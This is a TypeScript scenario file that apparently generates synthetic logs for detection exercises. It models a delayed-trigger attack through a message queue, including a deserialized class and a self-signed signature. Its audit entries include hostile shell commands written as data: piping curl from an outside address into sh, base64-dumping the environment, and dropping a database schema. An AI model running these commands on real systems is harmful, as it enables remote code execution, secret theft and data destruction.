import { closing } from '../../fragments/closing.ts'
import { entry } from '../../fragments/entry.ts'
import { sideFact } from '../../fragments/side-fact.ts'
import { ordinaryApplication } from '../../fragments/ordinary-application.ts'
import { errand } from '../../fragments/errand.ts'
import { defineScenario } from '../../scenario.ts'

export default defineScenario({
  risk: 'Delayed or Timed Trigger Attacks',
  title: 'a message that may be read only later',
  clues: [
    'Message {message} lies {delay} s unseen in the queue, far longer than any retry.',
    'Its sender is gone from the list of producers before it is delivered.',
    'The handler takes a class name out of the body, and makes one it never made.',
    'The worker that reads it starts a child, which it did for no message before.',
    'The signature header is present, but its key is that of the sender himself.',
  ],
  steps: (story) => {
    const { make, either, pick, whole, chance } = story
    const queue = pick('q', ['orders.retry', 'mail.out', 'thumbs', 'reports.slow', 'billing.events'])
    const message = make.id('msg', 'm')
    const delay = either(whole('dl', 20000, 900000), whole('ds', 5, 900))
    const producer = make.service('prod')
    const pid = make.pid('worker')
    const uid = make.uid('worker', 'service')
    story.note('message', message)
    story.note('delay', delay)
    const read = (key: string, type: string, after: readonly [number, number]) =>
      entry(
        'worker',
        'handle',
        {
          queue,
          message: make.id(key, 'm-'),
          type,
          pid,
          tries: 1,
          result: 'ok',
          ms: whole(`${key}/ms`, 3, 300),
        },
        ['{message} {type} from {queue}: {result} in {ms} ms', 'handled {message} ({type}), try {tries}'],
        after,
      )
    return [
      entry(
        'broker',
        'connect',
        { client: producer, src_ip: make.insideAddress('p'), user: make.serviceUser('p'), tls: true },
        ['{client} connected from {src_ip} as {user}', 'producer {client} tls={tls}'],
      ),
      read('m1', 'Invoice', [1, 60]),
      entry(
        'broker',
        'publish',
        {
          queue,
          message,
          client: producer,
          bytes: either(whole('by', 3000, 90000), whole('bs', 200, 900)),
          delay_s: delay,
          content_type: either('application/x-java-serialized-object', 'application/json'),
          reason: sideFact(story, 'reason', 'none', 'try 2 of 5'),
        },
        [
          '{message} to {queue}: {bytes} bytes, delay {delay_s} s, {content_type}',
          '{client} published {message}, visible in {delay_s} s ({reason})',
        ],
      ),
      entry(
        'broker',
        'signature',
        {
          message,
          key: either(make.id('k1'), 'platform-2024'),
          listed: sideFact(story, 'listed', false, true),
          result: 'valid',
        },
        ['{message} key {key}: {result}, listed={listed}', 'signature of {message} {result}'],
      ),
      read('m2', 'Invoice', [1, 60]),
      ordinaryApplication(story, 'a', 2),
      entry(
        'broker',
        either('disconnect', 'heartbeat'),
        { client: producer, connections: either(0, 2), user: make.serviceUser('p') },
        ['{client} connections {connections}', `producer {client} ${either('gone', 'alive')}`],
        [300, 9000],
      ),
      chance('acc', 0.6)
        ? entry(
            'iam',
            'account',
            { user: make.serviceUser('p'), state: either('deleted', 'active'), by_user: make.user('adm') },
            ['{user} {state} (by {by_user})', 'account {user} {state}'],
            [300, 9000],
          )
        : undefined,
      read('m3', 'Receipt', [300, 9000]),
      ordinaryApplication(story, 'b', 2),
      entry(
        'broker',
        'visible',
        { queue, message, waited_s: delay, redelivered: false },
        ['{message} visible after {waited_s} s', '{queue}: {message} due now'],
        [900, 40000],
      ),
      entry(
        'worker',
        'handle',
        {
          queue,
          message,
          type: either(pick('ty', ['ScriptTask', 'TemplateUtil', 'org.x.Runner', 'os.system']), 'Invoice'),
          pid,
          tries: either(1, 2),
          result: 'ok',
          ms: either(whole('slow', 3000, 90000), whole('fast', 3, 300)),
        },
        ['{message} {type} from {queue}: {result} in {ms} ms', 'handled {message} ({type}), try {tries}'],
        1,
      ),
      entry(
        'audit',
        either('exec', 'write'),
        {
          pid: make.pid('child'),
          ppid: pid,
          uid,
          euid: uid,
          path: either('/bin/sh', '/var/spool/out/invoice.pdf'),
          cmd: either(
            pick('c', [
              'sh -c "curl ' + make.outsideAddress('o') + '|sh"',
              'sh -c "env | base64"',
              'sh -c "psql -c \'drop schema public\'"',
            ]),
            'render',
          ),
        },
        ['{cmd} ppid={ppid} uid={uid} ({path})', 'worker {ppid}: {cmd}'],
        1,
      ),
      entry(
        'netflow',
        'connection',
        {
          pid: either(make.pid('child'), pid),
          dst_ip: either(make.outsideAddress('o'), make.insideAddress('store')),
          dst_port: either(443, 9000),
          bytes_out: either(whole('bo', 3000, 900000), whole('b2', 300, 3000)),
        },
        ['{pid} -> {dst_ip}:{dst_port} {bytes_out} bytes', 'connection with {dst_ip}:{dst_port}'],
        2,
      ),
      entry(
        'broker',
        'ack',
        { queue, message, depth: whole('dep', 0, 40) },
        ['{message} acknowledged, depth {depth}', '{queue} depth {depth}'],
        3,
      ),
      read('m4', 'Invoice', [1, 60]),
      entry(
        'worker',
        'env',
        { pid, variables_before: 31, variables: either(33, 31), restarted: false },
        ['environment {variables_before} -> {variables}', `worker {pid} ${either('changed', 'unchanged')}`],
        [5, 90],
      ),
      errand(story),
      closing(story),
    ]
  },
})
